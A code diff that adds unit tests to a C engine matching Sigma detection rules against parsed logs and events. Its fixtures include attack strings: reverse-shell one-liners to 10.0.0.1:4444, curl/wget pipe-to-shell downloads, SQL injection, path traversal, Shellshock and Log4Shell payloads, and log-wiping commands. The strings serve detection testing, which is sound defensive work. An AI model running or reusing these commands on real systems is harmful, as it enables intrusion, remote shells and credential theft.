@@ -16,6 +16,7 @@
 #include <unistd.h>
 
 #include "correlator/sigma.h"
+#include "sensors/logs/logparse.h"
 
 /* ---------------------------------------------------------------- helpers -- */
 
@@ -875,6 +876,278 @@ static void test_match_callback_order(void **state)
     cs_ruleset_free(rs);
 }
 
+/* ------------------------------------------------- logsource routing -- */
+
+static cs_event *parse_line(cs_log_format fmt, const char *line)
+{
+    cs_event *ev = NULL;
+    cs_log_ctx ctx;
+    memset(&ctx, 0, sizeof ctx);
+    ctx.received_us = 1700000000000000LL;
+    assert_int_equal(cs_log_parse_line(fmt, line, strlen(line), &ctx, &ev), CS_OK);
+    assert_non_null(ev);
+    return ev;
+}
+
+static void test_logsource_routing(void **state)
+{
+    const char *y = "title: sshd keyword\nlogsource:\n  product: linux\n  service: sshd\n"
+                    "detection:\n  k:\n    - 'Failed password'\n  condition: k\n"
+                    "---\n"
+                    "title: web keyword\nlogsource:\n  category: webserver\n"
+                    "detection:\n  k:\n    - 'Failed password'\n  condition: k\n"
+                    "---\n"
+                    "title: any linux\nlogsource:\n  product: LINUX\n"
+                    "detection:\n  k:\n    - 'Failed password'\n  condition: k\n"
+                    "---\n"
+                    "title: syslog\nlogsource:\n  product: linux\n  service: syslog\n"
+                    "detection:\n  k:\n    - 'Failed password'\n  condition: k\n"
+                    "---\n"
+                    "title: webserver field\nlogsource:\n  category: webserver\n"
+                    "detection:\n  s:\n    cs-method: GET\n    cs-uri-query|contains: 'Failed'\n  condition: s\n"
+                    "---\n"
+                    "title: dns\nlogsource:\n  category: dns\n"
+                    "detection:\n  k:\n    - 'Failed password'\n  condition: k\n";
+    cs_ruleset *rs = load_ok(y);
+    const cs_rule *got[8] = {0};
+    cs_event *ev;
+    (void)state;
+    assert_int_equal(cs_ruleset_count(rs), 6);
+
+    /* sshd line: sshd, any-linux and syslog rules; not the web or dns ones */
+    ev = parse_line(CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host sshd[12]: Failed password for root from "
+                                      "203.0.113.5 port 2222 ssh2");
+    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, got), 3);
+    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 0));
+    assert_ptr_equal(got[1], cs_ruleset_rule(rs, 2));
+    assert_ptr_equal(got[2], cs_ruleset_rule(rs, 3));
+    assert_true(cs_rule_applies(cs_ruleset_rule(rs, 0), ev));
+    assert_false(cs_rule_applies(cs_ruleset_rule(rs, 1), ev));
+    cs_event_free(ev);
+
+    /* nginx access line with the same words: the webserver rules only */
+    memset(got, 0, sizeof got);
+    ev = parse_line(CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"GET /Failed%20password?x=Failed"
+                                      " HTTP/1.1\" 404 12 \"-\" \"Failed password\"");
+    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, got), 2);
+    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 1));
+    assert_ptr_equal(got[1], cs_ruleset_rule(rs, 4));
+    assert_false(cs_rule_match(cs_ruleset_rule(rs, 0), ev) && cs_rule_applies(cs_ruleset_rule(rs, 0), ev));
+    cs_event_free(ev);
+
+    /* a linux event from an unknown program has service = its name: not sshd */
+    memset(got, 0, sizeof got);
+    ev = parse_line(CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host myapp[12]: Failed password for bob");
+    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, got), 2);
+    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 2));
+    assert_ptr_equal(got[1], cs_ruleset_rule(rs, 3));
+    cs_event_free(ev);
+
+    /* an event with no logsource at all is matched against every rule */
+    ev = ev_str("message", "Failed password", "cs-method", "get", "cs-uri-query", "/Failed", NULL);
+    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 6);
+    cs_event_free(ev);
+
+    /* a packet-sensor event (no logsource) does not reach rules naming a
+     * service; a hand-built log event without logsource does */
+    {
+        const char *z = "title: zeek not\nlogsource:\n  product: zeek\n  service: rdp\n"
+                        "detection:\n  s:\n    id.orig_h|cidr: 10.0.0.0/8\n  condition: not s\n"
+                        "---\ntitle: fw\nlogsource:\n  category: firewall\n"
+                        "detection:\n  s:\n    destination.port: 3389\n  condition: s\n";
+        cs_ruleset *zs = load_ok(z);
+        cs_event *fl = cs_event_new(CS_KIND_FLOW, 0);
+        assert_int_equal(cs_event_add_int(&fl, fid("destination.port"), 3389), CS_OK);
+        assert_int_equal(cs_ruleset_match(zs, fl, collect_cb, (memset(got, 0, sizeof got), got)), 1);
+        assert_ptr_equal(got[0], cs_ruleset_rule(zs, 1));
+        assert_false(cs_rule_applies(cs_ruleset_rule(zs, 0), fl));
+        cs_event_free(fl);
+        fl = ev_str("x", "y", NULL);
+        assert_int_equal(cs_ruleset_match(zs, fl, NULL, NULL), 1);   /* CS_KIND_LOG: zeek rule applies */
+        assert_true(cs_rule_applies(cs_ruleset_rule(zs, 0), fl));
+        cs_event_free(fl);
+        cs_ruleset_free(zs);
+    }
+
+    /* a logsource with only a category: rules naming a product do not apply */
+    ev = ev_str("message", "Failed password", "citysoc.logsource.category", "dns", NULL);
+    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, (memset(got, 0, sizeof got), got)), 1);
+    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 5));
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+}
+
+/* The bundled rules: sshd on real sshd lines only; product citysoc on flows
+ * (no logsource) and on access logs alike. */
+static void test_logsource_bundled_rules(void **state)
+{
+    const char *src = getenv("CS_SOURCE_DIR");
+    char path[1024];
+    cs_ruleset *rs = NULL;
+    cs_event *ev;
+    (void)state;
+    static const char *const files[] = {"linux/sshd_auth_failure.yml", "web/web_sql_injection_url.yml",
+                                        "web/web_attack_tool_user_agent.yml", "web/web_path_traversal_url.yml"};
+    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
+    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
+        snprintf(path, sizeof path, "%s/rules/sigma/%s", src != NULL && src[0] != '\0' ? src : ".", files[i]);
+        assert_int_equal(cs_ruleset_load_path(rs, path, NULL, NULL), CS_OK);
+    }
+    assert_int_equal(cs_ruleset_count(rs), 4);
+
+    ev = cs_event_new(CS_KIND_FLOW, 0);
+    assert_int_equal(cs_event_add_cstr(&ev, fid("url.original"), "/x.php?id=1%27%20or%20%271%27=%271"), CS_OK);
+    assert_int_equal(cs_event_add_cstr(&ev, fid("user_agent.original"), "sqlmap/1.7"), CS_OK);
+    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 2);
+    cs_event_free(ev);
+
+    ev = parse_line(CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"GET /../../etc/passwd"
+                                      " HTTP/1.1\" 404 12 \"-\" \"nikto\"");
+    assert_true(cs_ruleset_match(rs, ev, NULL, NULL) >= 1);
+    cs_event_free(ev);
+
+    ev = parse_line(CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host sshd[12]: Failed password for root from "
+                                      "203.0.113.5 port 2222 ssh2");
+    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 1);
+    cs_event_free(ev);
+    /* the same message from nginx's error log does not reach the sshd rule */
+    ev = parse_line(CS_LOGFMT_NGINX_ERROR, "2024/03/03 10:00:00 [error] 12#12: *1 Failed password for root, "
+                                           "client: 203.0.113.5");
+    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 0);
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+}
+
+/* ------------------------------------------------------ field mappings -- */
+
+static char *write_tmp(const char *dir, const char *name, const char *text)
+{
+    static char path[512];
+    FILE *fp;
+    snprintf(path, sizeof path, "%s/%s", dir, name);
+    fp = fopen(path, "w");
+    assert_non_null(fp);
+    assert_int_equal(fputs(text, fp) >= 0, 1);
+    assert_int_equal(fclose(fp), 0);
+    return path;
+}
+
+static void test_field_mappings(void **state)
+{
+    char dir[] = "/tmp/cs_sigma_map_XXXXXX";
+    const char *map = "name: t\nmappings:\n"
+                      "  - logsource: {product: linux, category: process_creation}\n"
+                      "    fields:\n      Image: process.executable\n      CommandLine: process.command_line\n"
+                      "  - logsource: {category: dns}\n    fields:\n      query: dns.question.name\n"
+                      "  - fields:\n      Image: other.image\n";
+    const char *rules = "title: pc\nlogsource:\n  product: linux\n  category: process_creation\n"
+                        "detection:\n  s:\n    Image|endswith: /curl\n    CommandLine|contains: evil\n"
+                        "    CommandLine|fieldref: CommandLine\n  condition: s\n"
+                        "---\n"
+                        "title: dns\nlogsource:\n  category: dns\n"
+                        "detection:\n  s:\n    query|endswith: .evil.example\n  condition: s\n"
+                        "---\n"
+                        "title: unmapped\nlogsource:\n  product: windows\n"
+                        "detection:\n  s:\n    Image|endswith: /curl\n    Unmapped: x\n  condition: s\n";
+    cs_ruleset *rs = NULL;
+    cs_event *ev;
+    const cs_rule *got[8] = {0};
+    (void)state;
+    assert_non_null(mkdtemp(dir));
+    write_tmp(dir, "a.yml", map);
+    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
+    assert_int_equal(cs_ruleset_load_mappings(rs, dir), CS_OK);
+    assert_int_equal(cs_ruleset_mapping_count(rs), 4);
+    assert_int_equal(cs_ruleset_load_string(rs, "r.yml", rules, strlen(rules), NULL, NULL), CS_OK);
+
+    /* the mapped names are what the rule looks at */
+    ev = ev_str("process.executable", "/usr/bin/curl", "process.command_line", "curl EVIL", NULL);
+    assert_int_equal(cs_ruleset_match(rs, ev, collect_cb, got), 1);
+    assert_ptr_equal(got[0], cs_ruleset_rule(rs, 0));
+    cs_event_free(ev);
+    ev = ev_str("Image", "/usr/bin/curl", "CommandLine", "curl evil", NULL);
+    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 0);
+    cs_event_free(ev);
+    ev = ev_str("dns.question.name", "a.EVIL.example", NULL);
+    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 1);
+    cs_event_free(ev);
+    /* a logsource no entry names but the catch-all: Image -> other.image;
+     * Unmapped keeps its own name */
+    ev = ev_str("other.image", "/bin/curl", "Unmapped", "x", NULL);
+    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 1);
+    cs_event_free(ev);
+    ev = ev_str("Image", "/bin/curl", "Unmapped", "x", NULL);
+    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 0);
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+
+    /* refusals name file:line; a refused file adds nothing */
+    {
+        static const struct {
+            const char *text;
+            int line;
+            const char *what;
+        } bad[] = {
+            {"mappings:\n  - fields:\n      a: b\nextra: 1\n", 4, "unknown key 'extra'"},
+            {"mappings:\n  - fields:\n      a: b\n    logsorce: {}\n", 4, "unknown key 'logsorce'"},
+            {"mappings:\n  - logsource: {product: linux, os: x}\n    fields: {a: b}\n", 2, "unknown key 'os'"},
+            {"mappings:\n  - logsource: {product: linux}\n", 2, "needs 'fields'"},
+            {"mappings:\n  - fields:\n      a: [b]\n", 3, "event field name"},
+            {"mappings:\n  - fields:\n      a|contains: b\n", 3, "no modifiers"},
+            {"mappings: 3\n", 1, "list of entries"},
+        };
+        for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
+            char where[600];
+            char *path = write_tmp(dir, "bad.yml", bad[i].text);
+            assert_int_equal(cs_ruleset_new(&rs), CS_OK);
+            assert_int_equal(cs_ruleset_load_mappings(rs, path), CS_ERR_CONFIG);
+            snprintf(where, sizeof where, "bad.yml:%d:", bad[i].line);
+            if (strstr(cs_err_msg(), where) == NULL || strstr(cs_err_msg(), bad[i].what) == NULL) {
+                print_error("case %zu: '%s'\n", i, cs_err_msg());
+            }
+            assert_non_null(strstr(cs_err_msg(), where));
+            assert_non_null(strstr(cs_err_msg(), bad[i].what));
+            assert_int_equal(cs_ruleset_mapping_count(rs), 0);
+            cs_ruleset_free(rs);
+            unlink(path);
+        }
+    }
+    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
+    assert_int_equal(cs_ruleset_load_mappings(rs, "/nonexistent/cs_maps"), CS_ERR_IO);
+    cs_ruleset_free(rs);
+    unlink(write_tmp(dir, "a.yml", ""));
+    rmdir(dir);
+}
+
+/* The shipped rules/mappings load, and a SigmaHQ-style firewall rule runs on
+ * a flow event's ECS fields through them. */
+static void test_shipped_mappings(void **state)
+{
+    const char *src = getenv("CS_SOURCE_DIR");
+    const char *rule = "title: fw\nlogsource:\n  category: firewall\n"
+                       "detection:\n  s:\n    dst_ip|cidr: 10.0.0.0/8\n    dst_port: 445\n  condition: s\n";
+    char path[1024];
+    cs_ruleset *rs = NULL;
+    cs_event *ev;
+    cs_ip ip;
+    (void)state;
+    snprintf(path, sizeof path, "%s/rules/mappings", src != NULL && src[0] != '\0' ? src : ".");
+    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
+    if (cs_ruleset_load_mappings(rs, path) != CS_OK) {
+        print_error("%s\n", cs_err_msg());
+        fail();
+    }
+    assert_true(cs_ruleset_mapping_count(rs) >= 10);
+    assert_int_equal(cs_ruleset_load_string(rs, "fw.yml", rule, strlen(rule), NULL, NULL), CS_OK);
+    ev = cs_event_new(CS_KIND_FLOW, 0);
+    assert_true(cs_ip_parse("10.1.2.3", 8, &ip));
+    assert_int_equal(cs_event_add_ip(&ev, fid("destination.ip"), &ip), CS_OK);
+    assert_int_equal(cs_event_add_int(&ev, fid("destination.port"), 445), CS_OK);
+    assert_int_equal(cs_ruleset_match(rs, ev, NULL, NULL), 1);
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+}
+
 /* -------------------------------------------------------------- refusals -- */
 
 /* -------------------------------------------------- v2.1 modifiers -- */
@@ -1642,6 +1915,193 @@ static void test_sigmahq_windows(void **state)
     cs_ruleset_free(rs);
 }
 
+/* ---------------------------------------------------- literal prefilter -- */
+
+typedef struct pfcount {
+    size_t n;
+    uint32_t h;
+} pfcount;
+
+static void pf_cb(const cs_rule *rule, const cs_event *ev, void *ud)
+{
+    pfcount *c = ud;
+    uintptr_t x = (uintptr_t)rule;
+    (void)ev;
+    c->n++;
+    c->h = c->h * 16777619u ^ (uint32_t)(x ^ (x >> 32));
+}
+
+/* Same matches, in the same order, with and without the prefilter. */
+static size_t pf_same(cs_ruleset *rs, const cs_event *ev)
+{
+    pfcount on = {0, 2166136261u}, off = {0, 2166136261u};
+    size_t a, b;
+    cs_ruleset_set_prefilter(rs, true);
+    a = cs_ruleset_match(rs, ev, pf_cb, &on);
+    cs_ruleset_set_prefilter(rs, false);
+    b = cs_ruleset_match(rs, ev, pf_cb, &off);
+    assert_int_equal(a, on.n);
+    assert_int_equal(b, off.n);
+    cs_ruleset_set_prefilter(rs, true);
+    if (on.n != off.n || on.h != off.h) {
+        print_error("prefilter changed the result: %zu vs %zu matches\n", on.n, off.n);
+    }
+    assert_int_equal(on.n, off.n);
+    assert_int_equal(on.h, off.h);
+    return on.n;
+}
+
+static void test_prefilter_unit(void **state)
+{
+    const char *y = "title: a\nlogsource: {product: linux}\ndetection:\n  s:\n    f|contains: 'EVIL'\n  condition: s\n"
+                    "---\ntitle: b\nlogsource: {product: linux}\n"
+                    "detection:\n  s:\n    f: 'x?y*zzz'\n  f:\n    g: ok\n  condition: s and not f\n"
+                    "---\ntitle: c\nlogsource: {product: linux}\ndetection:\n  s:\n    f|re: 'ev.l'\n  condition: s\n"
+                    "---\ntitle: d\nlogsource: {product: linux}\n"
+                    "detection:\n  k:\n    - 'needle'\n    - 'haystack'\n  condition: k\n"
+                    "---\ntitle: e\nlogsource: {product: linux}\ndetection:\n  s:\n    n: 445\n  condition: s\n"
+                    "---\ntitle: f\nlogsource: {product: linux}\n"
+                    "detection:\n  s:\n    f|contains|all: ['one', 'two']\n  condition: not s\n";
+    cs_ruleset *rs = load_ok(y);
+    cs_event *ev;
+    (void)state;
+    assert_int_equal(cs_ruleset_count(rs), 6);
+    assert_int_equal(cs_ruleset_prefiltered(rs), 3);   /* a, b, d */
+    ev = ev_str("f", "an evil thing", NULL);
+    assert_int_equal(pf_same(rs, ev), 3);              /* a, c, f */
+    cs_event_free(ev);
+    ev = ev_str("f", "XaYqqzZz", "message", "a HAYSTACK", NULL);
+    assert_int_equal(pf_same(rs, ev), 3);              /* b, d, f */
+    cs_event_free(ev);
+    /* keywords read message, else event.original */
+    ev = ev_str("message", "benign", "event.original", "a needle", NULL);
+    assert_int_equal(pf_same(rs, ev), 1);              /* f */
+    cs_event_free(ev);
+    ev = ev_str("event.original", "a needle", NULL);
+    assert_int_equal(pf_same(rs, ev), 2);              /* d, f */
+    cs_event_free(ev);
+    ev = cs_event_new(CS_KIND_LOG, 0);
+    assert_int_equal(cs_event_add_int(&ev, fid("n"), 445), CS_OK);
+    assert_int_equal(pf_same(rs, ev), 2);              /* e, f */
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+}
+
+/* Every SigmaHQ Linux/web/network rule (rules, threat hunting) plus all the
+ * emerging-threats rules, on parsed log lines and synthetic events whose
+ * fields hold attack-looking strings: the prefilter never changes a result. */
+static void test_prefilter_sigmahq_equivalence(void **state)
+{
+    static const char *const dirs[] = {"rules/linux", "rules/web", "rules/network", "rules-threat-hunting/linux",
+                                       "rules-threat-hunting/web", "rules-threat-hunting/network",
+                                       "rules-emerging-threats"};
+    static const struct {
+        cs_log_format fmt;
+        const char *line;
+    } lines[] = {
+        {CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host sshd[12]: Failed password for invalid user admin from "
+                           "203.0.113.5 port 2222 ssh2"},
+        {CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host sshd[12]: Accepted publickey for bob from 10.0.0.2 port 22 ssh2"},
+        {CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host sshd[12]: error: buffer_get_ret: trying to get more bytes 1907 "
+                           "than in buffer 308 [preauth]"},
+        {CS_LOGFMT_SYSLOG, "<85>Mar  3 10:00:00 host sudo:    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; "
+                           "COMMAND=/bin/bash -c 'chmod +x /tmp/x; /tmp/x'"},
+        {CS_LOGFMT_SYSLOG, "<85>Mar  3 10:00:00 host sudo: bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; "
+                           "USER=#-1 ; COMMAND=/usr/bin/id"},
+        {CS_LOGFMT_SYSLOG, "<78>Mar  3 10:00:00 host CRON[99]: (root) CMD (wget -q -O- http://x.example/a.sh | sh)"},
+        {CS_LOGFMT_SYSLOG, "<4>Mar  3 10:00:00 host kernel: [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.9 DST=10.0.0.1 "
+                           "PROTO=TCP SPT=4444 DPT=445"},
+        {CS_LOGFMT_SYSLOG, "<13>Mar  3 10:00:00 host app: segfault at 0 ip 00007f sp 0 error 4 in libc.so; "
+                           "entered promiscuous mode"},
+        {CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"GET /index.php?id=1%27%20union%20select"
+                           "%20password%20from%20users-- HTTP/1.1\" 200 12 \"-\" \"sqlmap/1.7\""},
+        {CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"GET /../../../../etc/passwd HTTP/1.1\" "
+                           "400 12 \"-\" \"Mozilla/5.0 (compatible; Nmap Scripting Engine)\""},
+        {CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\" "
+                           "200 12 \"-\" \"() { :; }; /bin/bash -c 'cat /etc/shadow'\""},
+        {CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"GET /${jndi:ldap://x.example/a} "
+                           "HTTP/1.1\" 404 12 \"${jndi:ldap://x}\" \"curl/8\""},
+        {CS_LOGFMT_ACCESS, "10.0.0.7 - alice [03/Mar/2024:10:00:00 +0000] \"GET /static/app.js HTTP/1.1\" 200 512 "
+                           "\"https://portal.example/\" \"Mozilla/5.0 (X11; Linux x86_64)\""},
+        {CS_LOGFMT_NGINX_ERROR, "2024/03/03 10:00:00 [error] 12#12: *1 open() \"/var/www/.env\" failed, client: "
+                                "203.0.113.5"},
+        {CS_LOGFMT_AUDITD, "type=EXECVE msg=audit(1700000000.000:1): argc=3 a0=\"chmod\" a1=\"777\" a2=\"/tmp/x\""},
+        {CS_LOGFMT_AUDITD, "type=SYSCALL msg=audit(1700000000.000:2): arch=c000003e syscall=59 success=yes exit=0 "
+                           "comm=\"nc\" exe=\"/usr/bin/nc\" key=\"susp_activity\""},
+    };
+    static const char *const strs[] = {
+        "/usr/bin/curl", "curl -fsSL http://203.0.113.5/x | bash", "/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "base64 -d", "/tmp/.x/kworker", "nc -e /bin/sh 10.0.0.1 4444", "chmod 777 /etc/shadow", "crontab -l",
+        "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "iptables -F", "history -c", "/etc/ld.so.preload",
+        "union select", "/wp-admin/admin-ajax.php", "../../etc/passwd", "cmd.exe /c whoami", "powershell -enc",
+        "masscan/1.3", "Go-http-client/1.1", "x.onion", "dnscat", "tunnel.example.com", "TXT", "GET", "POST",
+        "CONNECT", "200", "404", "true", "sudo", "root", "www-data", "/var/www/html/shell.php", "", "a",
+    };
+    static const char *const names[] = {
+        "CommandLine", "Image", "ParentImage", "User", "TargetFilename", "cs-uri-query", "cs-uri-stem", "cs-method",
+        "cs-user-agent", "c-uri", "c-useragent", "cs-host", "query", "answer", "record_type", "message", "sc-status",
+        "exe", "comm", "type", "a0", "a1", "DestinationHostname", "uri", "user_agent", "cs-referer",
+        "event.original", "url.original", "user_agent.original", "process.command_line", "dns.question.name",
+    };
+    const char *base = getenv("CS_SHARED_DATA");
+    char path[1024];
+    struct stat sb;
+    cs_ruleset *rs = NULL;
+    hq h = {0};
+    size_t events = 0, matches = 0;
+    unsigned rnd = 12345;
+    (void)state;
+    if (base == NULL || base[0] == '\0') {
+        base = "/work/shared/data";
+    }
+    snprintf(path, sizeof path, "%s/sigma/rules/linux", base);
+    if (stat(path, &sb) != 0) {
+        printf("SigmaHQ rules not found under %s (set CS_SHARED_DATA): skipped\n", path);
+        skip();
+    }
+    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
+    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
+        snprintf(path, sizeof path, "%s/sigma/%s", base, dirs[i]);
+        if (stat(path, &sb) == 0) {
+            (void)cs_ruleset_load_path(rs, path, hq_err, &h);
+        }
+    }
+    printf("prefilter: %zu rules, %zu with witnesses\n", cs_ruleset_count(rs), cs_ruleset_prefiltered(rs));
+    assert_true(cs_ruleset_count(rs) > 300);
+    assert_true(cs_ruleset_prefiltered(rs) * 10 >= cs_ruleset_count(rs) * 8);
+    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
+        cs_event *ev = parse_line(lines[i].fmt, lines[i].line);
+        matches += pf_same(rs, ev);
+        events++;
+        cs_event_free(ev);
+    }
+    for (int i = 0; i < 3000; i++) {
+        cs_event *ev = cs_event_new(i % 3 == 0 ? CS_KIND_FLOW : CS_KIND_LOG, 0);
+        int nf = 1 + i % 5;
+        assert_non_null(ev);
+        for (int k = 0; k < nf; k++) {
+            char v[256];
+            rnd = rnd * 1103515245u + 12345u;
+            snprintf(v, sizeof v, "%s%s%s", (rnd >> 8) % 3 == 0 ? "x " : "", strs[(rnd >> 12) % (sizeof strs / sizeof strs[0])],
+                     (rnd >> 20) % 4 == 0 ? strs[(rnd >> 4) % (sizeof strs / sizeof strs[0])] : "");
+            assert_int_equal(cs_event_add_cstr(&ev, fid(names[(rnd >> 16) % (sizeof names / sizeof names[0])]), v),
+                             CS_OK);
+        }
+        if (i % 7 == 1) {
+            assert_int_equal(cs_event_add_cstr(&ev, CS_F_CS_LOGSOURCE_PRODUCT, "linux"), CS_OK);
+        } else if (i % 7 == 2) {
+            assert_int_equal(cs_event_add_cstr(&ev, CS_F_CS_LOGSOURCE_CATEGORY, "webserver"), CS_OK);
+        }
+        matches += pf_same(rs, ev);
+        events++;
+        cs_event_free(ev);
+    }
+    printf("prefilter: %zu events, %zu matches, identical with and without\n", events, matches);
+    assert_true(matches > 50);
+    free(h.log);
+    cs_ruleset_free(rs);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -1664,6 +2124,10 @@ int main(void)
         cmocka_unit_test(test_condition_x_of),
         cmocka_unit_test(test_metadata_and_multidoc),
         cmocka_unit_test(test_match_callback_order),
+        cmocka_unit_test(test_logsource_routing),
+        cmocka_unit_test(test_logsource_bundled_rules),
+        cmocka_unit_test(test_field_mappings),
+        cmocka_unit_test(test_shipped_mappings),
         cmocka_unit_test(test_neq),
         cmocka_unit_test(test_windash),
         cmocka_unit_test(test_base64),
@@ -1680,6 +2144,8 @@ int main(void)
         cmocka_unit_test(test_concurrent_match),
         cmocka_unit_test(test_sigmahq_subset),
         cmocka_unit_test(test_sigmahq_windows),
+        cmocka_unit_test(test_prefilter_unit),
+        cmocka_unit_test(test_prefilter_sigmahq_equivalence),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
